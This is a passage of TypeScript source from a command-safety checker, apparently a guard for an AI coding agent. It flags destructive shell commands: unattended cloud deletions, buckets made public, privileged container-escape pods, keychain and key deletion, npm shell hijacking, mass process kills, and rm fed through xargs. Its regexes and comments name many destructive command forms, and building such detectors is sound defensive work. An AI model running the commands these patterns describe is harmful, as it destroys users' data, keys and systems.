  if (name === 'sfdisk') return /\s(-d|--dump|-l|--list|-J|--json|-V|--verify|-s|--show-size|-g|--show-geometry|--list-types|-T)\s/.test(a);
  if (name === 'sgdisk' || name === 'gdisk') return /\s(--backup(=\S*)?|-b|-p|--print|-v|--verify|-i|--info(=\S*)?|-L|--list-types)\s/.test(a) && !/\s(-[zZoNndx]|--zap\S*|--clear|--new|--delete|--load-backup|--mbrtogpt)\b/.test(a);
  if (name === 'cryptsetup') return /\s(luksDump|status|isLuks|luksUUID|benchmark|tcryptDump|bitlkDump)\s/.test(a);
  if (name === 'badblocks') return !/\s-[a-zA-Z]*[wn]/.test(a);
  return false;
}

/** Command-line clients of clouds and hosting services. */
const CLOUD_CLIS = /^(aws|gcloud|az|doctl|heroku|fly|flyctl|vercel|netlify|firebase|cdk|sls|serverless|pulumi|terraform|tofu|linode-cli|hcloud|scw|oci|ibmcloud|upctl|vultr-cli|civo|exo|eksctl|supabase|railway|render|wrangler|pscale|neonctl|cf|gsutil|s3cmd|mc|rclone|b2|ovhcloud|openstack|kubectl|helm|gh|glab)$/;

/**
 * Deleting what lives on a cloud or hosting service, beyond the named cases in checkServices: a
 * destroy/delete/remove verb with the confirmation turned off (--yes, --force, --quiet,
 * --auto-approve, --confirm), or one of the verbs that always take a whole app or resource group.
 */
function checkCloudDestroy(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  // A private repository or bucket made public: everything in it leaks.
  if ((name === 'gh' && args[0] === 'api' && args.some((a) => /^private=false$|^visibility=public$/.test(a))) || (name === 'gh' && args[0] === 'repo' && args[1] === 'edit' && args.some((a) => /^--visibility(=public)?$/.test(a)) && args.includes('public')) || (name === 'gsutil' && args.some((a) => /^(allUsers|allAuthenticatedUsers):/.test(a))) || (name === 'aws' && ((args.includes('put-bucket-acl') && args.some((a) => /^public-read(-write)?$/.test(a))) || args.includes('public-read-write')))) {
    block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} makes a private repository or bucket public: everything in it leaks`, 'let the user change visibility themselves');
    return;
  }
  if (name === 'aws' && args[0] === 's3api' && /^(delete-objects|delete-bucket)$/.test(args[1] ?? '') && inv.words.some((w) => w.subs.some((sub) => /list-object-versions|list-objects/.test(sub)))) {
    block(walk, 'dangerous', 'aws s3api deletes every object (and version) the listing names: the bucket\'s data, for good', 'let the user run it');
    return;
  }
  if (/^(kubectl|oc)$/.test(name ?? '') && /^(run|debug)$/.test(args[0] ?? '') && ((args.some((a) => /"privileged"\s*:\s*true/.test(a)) && args.some((a) => /"host(PID|Network|IPC)"\s*:\s*true|nsenter|"hostPath"/.test(a))) || args.some((a) => /"hostPath"\s*:\s*\{\s*"path"\s*:\s*"\/(etc|root|var\/run\/docker\.sock)?\/?"/.test(a)))) {
    block(walk, 'dangerous', `${name} ${args[0]} starts a privileged pod in the node's namespaces: a container escape onto the node`);
    return;
  }
  // journalctl --vacuum-time=1s / --vacuum-size=1K: every archived log of the system gone.
  if (name === 'journalctl' && args.some((a) => /^--vacuum-time=\d+(s|sec|m|min|)$/.test(a) || /^--vacuum-size=\d+[KB]?$/i.test(a) || /^--vacuum-files=[01]$/.test(a))) {
    block(walk, 'system', 'journalctl vacuums away (nearly) every archived system log');
    return;
  }
  // A keychain a CI job made for the build (build.keychain, ci-signing.keychain-db, $TMPDIR/x.keychain) is that job's own.
  if (name === 'security' && /^delete-keychain$/.test(args[0] ?? '') && args.slice(1).some((a) => /(^|[^a-z])(build|ci|signing-tmp)([^a-z]|$)/i.test(a) || storeScope([a]) === 'throwaway')) {
    warn(walk, 'suspicious', `security delete-keychain ${args.slice(1).join(' ')}: a build's keychain`);
    return;
  }
  if (name === 'security' && /^delete-keychain$/.test(args[0] ?? '')) {
    block(walk, 'dangerous', 'security delete-keychain deletes a keychain with every password and key in it');
    return;
  }
  // security delete-identity / delete-certificate, keytool -delete / -delete-entry: a signing identity or key removed from its store.
  // (The keystore's own name says whether it is a test or debug one, not the directories it sits in: /home/dev, /tmp/ci-….)
  if ((name === 'security' && /^(delete-identity|delete-certificate)$/.test(args[0] ?? '')) || (name === 'keytool' && args.some((a) => /^-delete(entry)?$/.test(a)) && storeScope(args.map((a) => a.slice(a.lastIndexOf('/') + 1))) !== 'throwaway' && !args.some((a) => /(^|\/)debug[^/]*\.(keystore|jks)$/.test(a)))) {
    block(walk, 'dangerous', `${name} ${args[0]} removes a signing identity or key from its store: what it signs cannot be signed again`, 'let the user remove signing identities themselves');
    return;
  }
  if (/^gpg2?$/.test(name ?? '') && args.some((a) => /^--delete-secret(-and-public)?-keys?$/.test(a))) {
    block(walk, 'dangerous', 'gpg deletes secret keys: what they signed or encrypted can no longer be used', 'let the user do it');
    return;
  }
  // npm config set script-shell X / node-options --require X: every npm script (or node run by one) runs X first.
  if (/^(npm|pnpm|yarn)$/.test(name ?? '') && args[0] === 'config' && args[1] === 'set' && /^(script-shell|node-options|onload-script|shell)$/.test((args[2] ?? '').split('=')[0]) && !/^(\/(usr\/)?bin\/)?(ba|z|da)?sh$|--max-old-space-size=\d+$/.test(args[3] ?? args[2]?.split('=')[1] ?? '') && !WINDOWS_SHELL.test(args[3] ?? args[2]?.split('=')[1] ?? '')) {
    block(walk, 'dangerous', `${name} config set ${args[2]} makes every script ${name} runs start ${args[3] ?? ''} first`, 'leave npm\'s shell and node options alone');
    return;
  }
  // npm unpublish PKG --force (no version): every version gone from the registry, the name blocked from reuse.
  if (/^(npm|pnpm|yarn)$/.test(name ?? '') && args.includes('unpublish') && (args.includes('--force') || args.includes('-f')) && !args.some((a) => /^(@[^/]+\/)?[^@\s-][^@\s]*@\d/.test(a))) {
    block(walk, 'dangerous', `${name} unpublish --force removes every version of the package from the registry`, 'deprecate it instead: npm deprecate PKG "message"');
    return;
  }
  if (!CLOUD_CLIS.test(name ?? '')) return;
  // A preview: a deployment's own URL (vercel rm acme-web-git-x-acme.vercel.app), a hosting preview channel (pr-470).
  if (args.some((a) => /\.vercel\.app$|--[\w-]+\.netlify\.app$/.test(a)) || (name === 'firebase' && /^hosting:channel:delete$/.test(args.find((a) => !a.startsWith('-')) ?? ''))) return;
  // firebase --project demo-*: a project that exists only in the local emulator.
  if (name === 'firebase' && args.some((a, k) => /^demo-/.test(a) && /^(--project|-P)$/.test(args[k - 1] ?? '')) || args.some((a) => /^--project=demo-/.test(a))) return;
  const verbs = args.filter((x) => !x.startsWith('-'));
  const always =
    (name === 'az' && verbs[0] === 'group' && verbs[1] === 'delete') ||
    (name === 'heroku' && /^(apps:destroy|destroy|pg:reset)$/.test(verbs[0] ?? '')) ||
    (/^(fly|flyctl)$/.test(name) && verbs[0] === 'apps' && /^(destroy|delete)$/.test(verbs[1] ?? '')) ||
    ((name === 'cdk' || name === 'sls' || name === 'serverless') && /^(destroy|remove)$/.test(verbs[0] ?? '')) ||
    (name === 'firebase' && /^(projects:delete|hosting:disable|database:remove|firestore:delete)$/.test(verbs[0] ?? '') && args.some((x) => /^(--force|-f|--all-collections|-r|--recursive)$/.test(x)));
  // (also TOPIC:VERB, as netlify sites:delete and firebase hosting:channel:delete spell it)
  const destroy = verbs.some((v) => /^([\w-]+:)*(destroy|delete|remove|rm|rb|purge|terminate|drop|nuke|delete-.+|terminate-.+|destroy-.+)$/.test(v));
  const unattended = args.some((x) => /^(--yes|-y|--force|-f|--quiet|-q|--confirm(=.*)?|--auto-approve|-auto-approve|--no-prompt|--no-confirm|--skip-confirmation|--non-interactive)$/.test(x));
  // kubectl, helm, gh, glab and aws are judged by checkServices (a single pod or object is ordinary work).
  if (always || (destroy && unattended && !/^(kubectl|helm|gh|glab|aws|gsutil|rclone|mc|s3cmd|b2|terraform|tofu|pulumi)$/.test(name))) {
    block(walk, 'dangerous', `${name} ${args.slice(0, 4).join(' ')} deletes resources of a cloud or hosting service${unattended ? ' without asking' : ''}`, 'let the user run it after checking what it removes');
  }
}

/** Runtimes whose every process a kill by name takes down: interpreters, shells, the editor. */
const RUNTIMES = /^(node|nodejs|python[\d.]*|java|ruby|perl|php|deno|bun|dotnet|bash|zsh|sh|code|Code|electron)$/;

/** pkill/killall -u USER with no pattern, kill of every pid ps lists: every process of a user or of the machine. */
function checkKillAll(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  if (!/^(kill|pkill|killall|fuser|scancel|skill|slay)$/.test(name ?? '')) return;
  if ((name === 'pkill' || name === 'killall') && args.some((a) => a === '-u' || a.startsWith('--user'))) {
    const rest = operands(inv.words, new Set(['-u', '--user', '-s', '--signal', '-g', '-G', '-P', '-t']));
    if (rest.length === 0) block(walk, 'dangerous', `${name} ${args.join(' ')} kills every process of the user, the session with them`);
  }
  // pkill -f . / killall -r '.*': a pattern every process matches.
  if ((name === 'pkill' || (name === 'killall' && args.some((a) => a === '-r' || a === '--regexp'))) && operands(inv.words, new Set(['-u', '--user', '-s', '--signal', '-g', '-G', '-P', '-t'])).some((w) => /^(\.\*?|\^|\.\+|\w?)$/.test(w.text))) {
    block(walk, 'dangerous', `${name} ${args.join(' ')}: the pattern matches every process, the session and the system's own`);
  }
  // kill $(pgrep -f .) / $(pidof systemd): the processes a lister picks, when its pattern matches every process or names the init system.
  if (name === 'kill') {
    for (const sub of inv.words.flatMap((w) => w.subs)) {
      const m = /^\s*(pgrep|pidof|pkill)\s+(.*)$/.exec(sub);
      if (!m) continue;
      const pats = m[2].split(/\s+/).filter((x, k, all) => x !== '' && !x.startsWith('-') && !/^-[uUgGPtsn]$/.test(all[k - 1] ?? '')).map((x) => x.replace(/^(['"])(.*)\1$/, '$2'));
      if (pats.length === 0 ? m[1] === 'pgrep' && /-[a-zA-Z]*[uU]/.test(m[2]) : pats.some((x) => /^(\.\*?|\^|\$|\.\+|\*|\w?)$/.test(x) || /^(systemd|init|launchd|sshd|dbus-daemon|Xorg|Xwayland|gnome-shell|plasmashell|kwin\w*|loginctl|systemd-logind|containerd|dockerd)$/.test(x))) {
        block(walk, 'dangerous', `kill of what \`${sub.trim()}\` lists: every process, or the ones the system and the session run on`, 'kill the one process meant, by its PID');
      }
    }
  }
  // pkill -9 node, killall python3, kill $(pgrep -f node), ps aux | grep -i node | … | xargs kill: every program of a
  // runtime, the agent's own (Claude Code runs on node), the editor's servers and every other user's job under sudo.
  const pattern = (a: string[]) => a.slice(1).filter((x, k, all) => !x.startsWith('-') && !/^-[uUgGPtsnO]$|^--(user|signal|group|parent)$/.test(all[k - 1] ?? ''));
  const listers = [...inv.words.flatMap((w) => w.subs).map((sub) => sub.trim().split(/\s+/)), ...(inv.viaXargs ? inv.upstream.map((u) => u.argv) : [])];
  const runtime = (name === 'pkill' || name === 'killall' ? [pattern(inv.argv)] : name === 'kill' ? listers.filter((a) => /^(pgrep|pidof|grep|egrep|rg)$/.test(a[0] ?? '')).map(pattern) : []).flat().map((x) => x.replace(/^(['"])(.*)\1$/, '$2')).find((x) => RUNTIMES.test(x));
  const sigkill = inv.argv.some((a, k) => /^-(9|KILL|SIGKILL)$/i.test(a) || (/^(-s|--signal)$/.test(inv.argv[k - 1] ?? '') && /^(9|KILL|SIGKILL)$/i.test(a)));
  if (runtime && (sigkill || inv.elevated)) block(walk, 'dangerous', `${name} ${sigkill ? '-9 ' : ''}of every ${runtime} process: the agent's own (Claude Code runs on node), the editor's servers${inv.elevated ? ' and every other user\'s' : ''}`, 'kill the one process meant, by its PID or its port (kill $(lsof -ti :3000))');
  // sudo pkill -u bob, sudo kill $(nvidia-smi --query-compute-apps=pid …), sudo fuser -k /dev/nvidia*, sudo scancel -u alice: other users' work.
  const other = (u: string) => !/^(\$\{?USER\}?|\$\(id -u(n)?\)|\$\(whoami\)|root|0)$/.test(u);
  const users = inv.argv.flatMap((a, k) => (/^(-u|--user|-U)$/.test(inv.argv[k - 1] ?? '') ? [a] : /^--user=/.test(a) ? [a.slice(7)] : []));
  const everyUser = listers.some((a) => /^(nvidia-smi|squeue|lsof|fuser)$/.test(a[0] ?? '') && !a.some((x) => /^-[a-zA-Z]*[iu]|^--user|^:\d|tcp|udp/.test(x)));
  // (-HUP, -USR1: the reload a daemon's own docs give, nothing is stopped.)
  const reload = inv.argv.some((a, k) => /^-(HUP|SIGHUP|USR[12]|SIGUSR[12]|1|10|12)$/.test(a) || (/^(-s|--signal)$/.test(inv.argv[k - 1] ?? '') && /^(HUP|USR[12])$/.test(a)));
  if (inv.elevated && !reload && (/^(pkill|killall|scancel|skill|slay)$/.test(name) && users.some(other) || (name === 'kill' || name === 'scancel') && everyUser)) block(walk, 'dangerous', `${name} as root of other users' processes or jobs`, 'let the owner or the admin stop them');
  // (fuser -k /dev/ttyUSB0 without sudo: only the user's own processes holding their board's port.)
  if (name === 'fuser' && inv.argv.some((a) => /^-[a-zA-Z]*k/.test(a)) && inv.argv.some((a) => /^\/dev\//.test(a) && (inv.elevated || !isUserDeviceNode(a)))) block(walk, 'dangerous', `fuser -k kills every process using ${inv.argv.find((a) => a.startsWith('/dev/'))}, other users' included`, 'kill the one process meant, by its PID');
  // lsof -t | xargs kill, pgrep -u "$(id -u)" | xargs kill: every process with a file open, every process of the user.
  if (name === 'kill' && inv.viaXargs && inv.upstream.length > 0 && ((inv.upstream[0].argv[0] === 'lsof' && inv.upstream[0].argv.slice(1).every((a) => /^-[a-zA-Z]*t[a-zA-Z]*$/.test(a))) || (inv.upstream[0].argv[0] === 'pgrep' && pattern(inv.upstream[0].argv).length === 0))) block(walk, 'dangerous', `kill of every process \`${inv.upstream[0].argv.join(' ')}\` lists: the user's whole session`, 'kill the one process meant, by its PID');
  const psAll = /^\s*ps\s+(-[a-zA-Z]*[eA][a-zA-Z]*|a?u?x|-ax|aux|-[uU]\s+\S+|x)\b[^|]*(\|\s*(tr|xargs|paste|sort|uniq)\b[^|]*)*$/;
  if (name === 'kill' && (inv.words.some((w) => w.subs.some((sub) => psAll.test(sub) || (/^\s*ps\b/.test(sub) && /\|\s*awk\s+['"]\{\s*print\s+\$[12]\s*\}['"]\s*$/.test(sub) && psAll.test(sub.split('|')[0])))) || (inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'ps' && psAll.test(u.argv.join(' '))) && !inv.upstream.some((u) => /^(grep|pgrep|rg)$/.test(u.argv[0]) || (/awk$/.test(u.argv[0]) && u.argv.some((a) => /\/[^/]+\/|\$\d+\s*[=~!]/.test(a))))))) {
    block(walk, 'dangerous', 'kill of every process ps lists: the whole machine stops');
  }
}

/** Commands whose path operands the switch above checks itself. */
const HANDLES_PATHS = new Set(['rm', 'srm', 'rmdir', 'unlink', 'truncate', 'shred', 'mv', 'cp', 'install', 'ln', 'rsync', 'scp', 'tee', 'touch', 'mkdir', 'sed', 'perl', 'dd', 'chmod', 'chown', 'chgrp', 'find', 'git', 'cd', 'echo', 'printf']);

/** `sh -c 'rm -rf "$1"' _ PATH`: the script with $1... replaced by the words after it ($0 first). */
function substitutePositional(script: string, after: string[]): string {
  // "$1" whole is one quoted word; $1 inside a longer string ("$1.enc") is its text there.
  return script.replace(/"\$(\{)?([0-9@*])(?:\})?"|\$(\{)?([0-9@*])(?:\})?/g, (m, _b, n1?: string, _c?: string, n2?: string) => {
    const n = n1 ?? n2!;
    const vals = n === '@' || n === '*' ? after.slice(1) : [after[Number(n)] ?? ''];
    if (vals.length === 0) return m;
    return n1 !== undefined ? vals.map((v) => `'${v.replace(/'/g, `'\\''`)}'`).join(' ') : vals.join(' ').replace(/["$`\\]/g, '\\$&');
  });
}

const STDIN_TARGET: Target = { word: { text: '<stdin>', dynamic: true, glob: false, subs: [], quoted: false }, abs: null, wholeDir: false };

/** xargs rm ...: the paths come from the previous stage of the pipeline (find ROOT, echo PATHS, ls DIR) or a here-string, beside rm's own operands. */
function xargsTargets(walk: Walk, inv: Invocation): { targets: Target[]; recursive: boolean } | null {
  if (!inv.viaXargs) return null;
  const own = operands(inv.words).filter((w) => !/\{\}|^%$/.test(w.text));
  const replStr = inv.xargsReplace;
  const replWords = replStr ? inv.words.slice(1).filter((w) => w.text.includes(replStr)) : [];
  const fed = xargsItems(walk, inv);
  const targets: Target[] = own.filter((w) => !replWords.includes(w)).map((w) => target(inv, w));
  let recursive = false;
  if (fed === null) targets.push(STDIN_TARGET);
  else {
    recursive = fed.recursive;
    for (const item of fed.items) {
      // ls DIR prints the names inside DIR: in ~/{} each stands for ~/*.
      const itemText = fed.names ? '*' : item.word.text;
      if (replWords.length > 0) for (const w of replWords) targets.push(target(inv, { ...item.word, text: w.text.split(replStr!).join(itemText), glob: item.word.glob || w.glob || !!fed.names }));
      else targets.push(item);
    }
  }
  return { targets, recursive };
}

/** Stages that pass a list of paths on mostly whole (tail -n +2, sort, uniq, head, grep -v, cat, tr, a `read` loop's header). */
const PASS_THROUGH = /^(tail|head|sort|uniq|tac|cat|tr|shuf|tee|nl|read|stdbuf|pv|cut)$/;

/** What an xargs (or a `while read` loop, or parallel) reads: items with their targets, or null when unknown. */
function xargsItems(walk: Walk, inv: Invocation): { items: Target[]; recursive: boolean; names?: boolean } | null {
  const home = walk.env.home;
  const here = inv.redirects.find((r) => r.body !== undefined);
  const word = (t: string): Word => ({ text: t, dynamic: false, glob: /[*?]/.test(t), subs: [], quoted: false });
  // -I, -0, -d: an item is a line (or all the text up to a NUL); otherwise every word is one.
  // tr ' ' '\n' upstream puts each word on a line of its own: -I then takes words, not the whole line.
  const lines = inv.xargsLines && !inv.upstream.some((u) => u.argv[0] === 'tr' && u.argv.slice(1).some((a) => a === ' ' || a === '[:space:]' || a === '[:blank:]'));
  const fromText = (t: string, at: Invocation) => ({ items: t.split(lines ? /\n+|\0+/ : /[\s\0]+/).map((x) => (lines ? x.trim() : x)).filter((x) => x !== '').map((x) => target(at, word(x))), recursive: false });
  if (here) return fromText(here.body!, inv);
  // xargs -a <(echo ~) / -a FILE-the-line-wrote: the argument file's text.
  const listFile = (w: Word | undefined) => (w && inv.cwd !== null && !w.dynamic ? walk.listFiles.get(resolveFrom(inv.cwd, w.text)) : undefined);
  const fromFile = listFile(inv.xargsFile) ?? listFile(inv.redirects.find((r) => r.op === '<')?.target);
  if (fromFile) return xargsItems(walk, { ...inv, xargsFile: undefined, redirects: [], upstream: [fromFile] });
  // echo ~ > /tmp/p; xargs rm -rf < /tmp/p (or -a /tmp/p): the text the line wrote there.
  const wroteTo = [inv.xargsFile, inv.redirects.find((r) => r.op === '<')?.target].find((w) => w && !w.dynamic && inv.cwd !== null && walk.files.get(resolveFrom(inv.cwd, w.text))?.content);
  if (wroteTo) return fromText(walk.files.get(resolveFrom(inv.cwd!, wroteTo.text))!.content!, inv);
  if (inv.xargsFile && inv.xargsFile.subs.length > 0) {
    const fed = substitutionItems(walk, inv, inv.xargsFile.subs[0]);
    if (fed) return fed;
  }
  if (inv.xargsFile) {
    const sub = inv.xargsFile.subs[0];
    const out = sub !== undefined ? resolveSubstitution(sub, parseEnv(walk, inv.cwd)) : inv.cwd !== null ? walk.files.get(resolveFrom(inv.cwd, inv.xargsFile.text))?.content ?? null : null;
    return out === null ? null : fromText(out, inv);
  }
  // git worktree list: the repository's worktrees, the project itself first.
  if (inv.upstream.some((u) => u.argv[0] === 'git' && u.argv[1] === 'worktree' && u.argv[2] === 'list') && !inv.upstream.some((u) => /^(grep|rg)$/.test(u.argv[0]) && u.argv.some((a) => /^-[a-zA-Z]*v/.test(a)))) {
    return { items: [target(inv, word(walk.env.project))], recursive: true };
  }
  // awk '{print $2}' /etc/fstab, findmnt -o TARGET, df --output=target, bare mount: mount points, / first among them, each a whole disk's files.
  const first = inv.upstream[0]?.argv;
  if (first && (/^(findmnt|df)$/.test(first[0]) || (first[0] === 'lsblk' && first.some((a) => /MOUNTPOINT/i.test(a))) || (first[0] === 'mount' && first.length === 1) || first.some((a) => /^\/(etc\/(fstab|mtab)|proc\/(self\/)?mounts)$/.test(a)))) return fromText('/', inv.upstream[0]);
  // The stage that produces the list: skip what only passes it on; a grep (not -v), sed -n or awk with a pattern narrows it.
  let narrowed = false;
  // … | grep -E '(^|/)\.env' | xargs …: a filter that keeps the env files says what the items are.
  // ls -t DIR | tail -n +11 (or head -n -10): every entry but the newest ten, a retention clean-up that keeps some of them
  // (of a directory of rotating output only: builds, releases, backups, logs; of anything else it still deletes nearly all).
  let envFiles = false;
  let keeps = false;
  let k = inv.upstream.length - 1;
  for (; k >= 0; k--) {
    const a = inv.upstream[k].argv;
    if (/^(grep|egrep|rg)$/.test(a[0]) && !a.some((x) => /^-[a-zA-Z]*v/.test(x)) && a.slice(1).some((x) => /^[^-].*\\?\.env\b/.test(x))) envFiles = true;
    if ((a[0] === 'tail' && /(^|\s)(-n\s*|--lines[= ])\+([2-9]|\d\d+)(\s|$)/.test(a.join(' '))) || (a[0] === 'head' && /(^|\s)(-n\s*|--lines[= ])-[1-9]\d*(\s|$)/.test(a.join(' ')))) keeps = true;
    // A stage fed its own text (cat <<< ~) or reading a file (cut -f6 /etc/passwd) is where the list comes from.
    if (inv.upstream[k].redirects.some((r) => r.body !== undefined)) break;
    if (/^(cut|cat|sort|uniq|head|tail|tac|tr|nl)$/.test(a[0]) && operands(inv.upstream[k].words, new Set(['-d', '-f', '-c', '-b', '-n', '-k', '-t'])).some((w) => w.text.startsWith('/'))) break;
    // awk '{print $2}' (no pattern, only printing fields) passes the list on too.
    if (PASS_THROUGH.test(a[0]) || (a[0] === 'grep' && a.some((x) => /^-[a-zA-Z]*v/.test(x))) || (/^[gm]?awk$/.test(a[0]) && a.some((x) => /^\s*\{\s*print\s+\$\w+\s*;?\s*\}\s*$/.test(x)))) continue;
    const readsFile = operands(inv.upstream[k].words, new Set(['-F', '-f', '-v', '-e'])).slice(1).some((w) => /^[/~.]/.test(w.text));
    if (/^(grep|egrep|rg|sed|awk)$/.test(a[0]) && !readsFile && !a.includes('--files') && !inv.upstream[k].redirects.some((r) => r.body !== undefined)) {
      narrowed = true;
      continue;
    }
    break;
  }
  let feeder: Invocation | undefined = inv.upstream[k];
  // cat <(echo ~) | xargs …: the substitution cat reads is the list.
  const catSub = feeder?.argv[0] === 'cat' ? operands(feeder.words).find((w) => w.text.startsWith('/dev/fd/') && w.subs.length > 0) : undefined;
  const procSub = catSub ? { target: catSub } : inv.redirects.find((r) => r.op === '<' && r.target.subs.length > 0);
  if (catSub) feeder = undefined;
  if (!feeder && procSub) {
    // xargs rm < <(find / -print0): the substitution's last command feeds it.
    const cmds = parseShell(procSub.target.subs[0], parseEnv(walk, inv.cwd)).commands;
    const last = cmds[cmds.length - 1];
    if (last) feeder = { ...inv, argv: text(last.words), words: last.words, redirects: last.redirects, viaXargs: false, upstream: [] };
  }
  if (!feeder) return null;
  feeder = listerAsFind(walk, feeder);
  const f = feeder.argv[0];
  if (f === 'find') {
    const { roots, filtered, nameFiltered, namePattern } = findRoots(feeder);
    return {
      items: roots.map((r) => {
        const t = target(feeder!, r);
        // Names that are keys (-name 'id_*', '*.pem') say what is deleted: those files under the root.
        if (namePattern && isSecretName(namePattern) && t.abs !== null) return target(feeder!, { ...r, text: `${t.abs}/${namePattern}`, glob: true, dynamic: false });
        const narrow = narrowed || (broadRoot(walk, t.abs, feeder!) ? nameFiltered : filtered);
        return narrow ? { ...t, abs: t.abs === null ? null : `${t.abs === '/' ? '' : t.abs}/…` } : t;
      }),
      recursive: !(narrowed || roots.every((r) => (broadRoot(walk, target(feeder!, r).abs, feeder) ? nameFiltered : filtered))),
    };
  }
  // mdfind -onlyin DIR 'kMDItemFSName == "*.p12"' (Spotlight): the files of that name under DIR.
  if (f === 'mdfind') {
    const dir = feeder.argv.find((_, j) => feeder!.argv[j - 1] === '-onlyin') ?? '/';
    const pat = /kMDItemFSName\s*==\s*"?([^"')\s]+)/.exec(feeder.argv.join(' '))?.[1] ?? feeder.argv.slice(1).find((a, j) => !a.startsWith('-') && feeder!.argv[j] !== '-onlyin' && !/\s/.test(a));
    if (pat) return { items: [target(feeder, { ...word(`${dir.replace(/\/$/, '')}/${pat}`), glob: true })], recursive: false };
  }
  if (/^(locate|mlocate|plocate|slocate)$/.test(f)) {
    // locate PATH lists everything under PATH (its argument is a substring of the paths).
    const pat = operands(feeder.words, new Set(['-d', '--database', '-n', '-l', '--limit'])).find((w) => /^[/~]/.test(w.text) || w.dynamic);
    if (!pat) return null;
    const t = target(feeder, { ...pat, text: pat.text.replace(/\*+$/, '') });
    return { items: [narrowed ? { ...t, abs: t.abs === null ? null : `${t.abs}/…` } : t], recursive: !narrowed };
  }
  // xdg-user-dir PICTURES | xargs rm -rf: the folder the command prints, known without running it.
  if (f === 'xdg-user-dir') {
    const out = resolveSubstitution(feeder.argv.join(' '), parseEnv(walk, feeder.cwd));
    if (out) return fromText(out, feeder);
  }
  if (f === 'echo' || f === 'printf') {
    const args = operands(feeder.words).filter((w, k) => !(k === 0 && /^-[neE]+$/.test(w.text)));
    const texts = f === 'printf' ? printfFormat(args[0]?.text ?? '', args.slice(1).map((w) => w.text)) : args.map((w) => w.text).join(' ');
    // echo "$HOME" "$AIRFLOW_HOME": the words that are known are deleted whatever the others hold.
    const known = args.filter((w) => !w.dynamic || /^[/~]/.test(w.text));
    if (known.length < args.length) return known.length > 0 && f === 'echo' ? fromText(known.map((w) => w.text).join(' '), feeder) : null;
    return fromText(texts, feeder);
  }
  if (f === 'ls') {
    // Bare ls lists everything here (ls | xargs rm = rm *); ls PATHS lists those paths (or, for a
    // directory, its entries: taken as the directory itself, the cautious reading).
    const listed = operands(feeder.words);
    const rotating = (t: Target) => t.abs !== null && /(^|[-_.])(builds?|releases?|artifacts?|backups?|snapshots?|logs?|dumps?|archives?|deploy(s|ments)?|versions|nightl(y|ies))$/i.test(base(t.abs.replace(/\/\*$/, '')));
    const kept = (t: Target): Target => ({ ...t, abs: `${t.abs!.replace(/\/\*$/, '')}/…` });
    if (listed.length === 0) {
      const here = target(inv, word('.'));
      return { items: [keeps && rotating(here) ? kept(here) : target(inv, word('*'))], recursive: false };
    }
    const dirs = !feeder.argv.some((a) => /^-[a-zA-Z]*d/.test(a)) && listed.every((w) => !w.glob);
    if (keeps && listed.every((d) => rotating(target(feeder!, d)))) return { items: listed.map((d) => kept(target(feeder!, d))), recursive: false };
    return { items: listed.map((d) => target(feeder!, d)), recursive: false, names: dirs };
  }
  // getent passwd … | cut -d: -f6, awk -F: '{print $6}' /etc/passwd: the users' home directories.
  if ((f === 'getent' && feeder.argv[1] === 'passwd') || feeder.argv.some((a) => a === '/etc/passwd')) {
    const sixth = (a: string) => /^-f6$|^6$|\$6/.test(a);
    if (inv.upstream.some((u) => u.argv.some(sixth)) || feeder.argv.some(sixth)) return fromText(walk.env.home, feeder);
  }
  // perl -le 'print for glob("~/*")': interpreter code printing a listing.
  const flang = langOf(f);
  const printed = flang ? printedPaths(flang, inlineCode(flang, feeder.argv).code ?? '') : [];
  if (printed.length > 0) return { items: printed.map((p) => target(feeder!, word(p.replace(/^~(?=\/|$)/, home)))), recursive: !narrowed };
  // rails runner 'puts Rails.root', wp eval 'echo ABSPATH;': an app console printing the app's directories.
  const console = !narrowed && mayBeFramework(feeder.argv) ? framework().frameworkCode(feeder.argv, feeder.assigned ?? [], () => stdinText(feeder!)) : null;
  const said = console ? printedText(console.lang, console.code).join('\n') : '';
  if (said.trim() !== '') return fromText(said, feeder);
  // pnpm root -w | xargs dirname | xargs rm -rf: a stage that maps each item to its directory (or its real path).
  if (feeder.viaXargs && /^(dirname|realpath|readlink)$/.test(f) && k > 0) {
    const inner = xargsItems(walk, { ...feeder, upstream: inv.upstream.slice(0, k) });
    if (inner) return { items: inner.items.map((t) => (t.abs === null || f !== 'dirname' ? t : target(feeder!, word(path.posix.dirname(t.abs))))), recursive: inner.recursive || f === 'dirname' };
  }
  // fd -H -I '^\.env' .: fd's pattern names the env files.
  if (/^(fd|fdfind)$/.test(f) && feeder.argv.slice(1).some((x) => /^\^?\\?\.env/.test(x))) envFiles = true;
  const lister = listerRoots(walk, feeder);
  if (lister && envFiles) return { items: lister.roots.filter((t) => t.abs !== null).map((t) => target(feeder!, { ...word(`${t.abs}/.env*`), glob: true })), recursive: false };
  if (lister) return { items: lister.roots.map((t) => (narrowed || lister.filtered ? { ...t, abs: t.abs === null ? null : `${t.abs}/…` } : t)), recursive: !narrowed && !lister.filtered };
  // A filter of a known text (sed -n 1p <<< "$HOME", cut … <<< …): prints (part of) that text.
  const fedText = feeder.redirects.find((r) => r.body !== undefined)?.body;
  if (fedText !== undefined && !narrowed && /^(sed|cut|head|tail|awk|tr|cat|grep|sort|uniq)$/.test(f)) return fromText(fedText, feeder);
  if (f === 'jq' && feeder.argv.some((a) => /^(env|\$ENV)\.(HOME|PWD)$/.test(a))) return fromText(feeder.argv.some((a) => /PWD$/.test(a)) ? feeder.cwd ?? walk.env.cwd : walk.env.home, feeder);
  // Anything else whose output is known (git rev-parse --show-toplevel, pwd, dirname, realpath...).
  if (!narrowed && !feeder.words.some((w) => w.dynamic)) {
    const out = resolveSubstitution(feeder.argv.map(shellWord).join(' '), parseEnv(walk, feeder.cwd));
    if (out !== null && out.trim() !== '') return fromText(out, feeder);
  }
  return null;
}

/**
 * Commands that print the paths under their operands (listers): du -a, tree -fi, fd, rg --files,
 * git ls-files, stat -c %n, compgen -G PATTERN, ls -R. Their roots, and whether a pattern narrows them.
 */
function listerRoots(walk: Walk, u: Invocation): { roots: Target[]; filtered: boolean } | null {
  const [name, ...args] = u.argv;
  const paths = (ws: Word[]) => ws.filter((w) => /^[/~.]/.test(w.text) || w.glob);
  let roots: Word[] | null = null;
  let filtered = false;
  // du -s ~/* | sort -rn | head | cut -f2: du prints its operands (a glob of them), biggest first after the sort.
